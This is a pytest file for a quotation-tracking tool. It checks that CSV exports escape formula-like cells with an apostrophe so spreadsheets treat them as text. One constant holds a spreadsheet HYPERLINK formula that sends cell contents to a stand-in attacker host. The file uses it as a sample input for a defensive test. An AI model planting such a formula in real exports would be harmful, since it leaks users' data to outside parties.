"""CSV written for spreadsheets: a quotation, note or title that looks like a formula stays text."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from library_helpers import article_with, save

from quotemark.reading.spreadsheet import SafeCsvWriter, safe_cell
from quotemark.store import Annotation, Store
from quotemark.tui.cli import main

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-2", "@SUM(A1)", "\tx", "\rx", HOSTILE])
def test_formula_like_text_gets_an_apostrophe(cell: str) -> None:
    assert safe_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["We will win", "“=quoted”", "", " =1", 42, -3, None])
def test_other_cells_are_kept_as_they_are(cell: object) -> None:
    assert safe_cell(cell) == cell  # numbers stay numbers: only text is read as a formula


def test_the_writer_guards_every_text_cell() -> None:
    out = io.StringIO()
    SafeCsvWriter(out).writerow(["=cmd", "fine", 7, "@x"])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["'=cmd", "fine", "7", "'@x"]


def test_quotes_csv_and_export_csv_never_hand_a_formula_to_a_spreadsheet(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    db = tmp_path / "q.json"
    article, analysis = article_with("=Title", "2026-03-02", [("Ann Lee", HOSTILE)])
    store = Store(db)
    save(store, article, analysis)
    quote = analysis.quotes[0]
    store.add(Annotation.note(article, quote.start, quote.end, "-1 is what they said"))
    store.close()
    assert main(["quotes", "--format", "csv", "--db", str(db)]) == 0
    row = next(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert (row["quotation"], row["title"], row["notes"]) == ("'" + HOSTILE, "'=Title", "'-1 is what they said")
    source = tmp_path / "article.txt"
    source.write_text(article.text, encoding="utf-8")
    assert main(["export", str(source), "--format", "csv", "--db", str(db)]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert any(r["quote"] == "'" + HOSTILE and r["note"] == "'-1 is what they said" for r in rows)
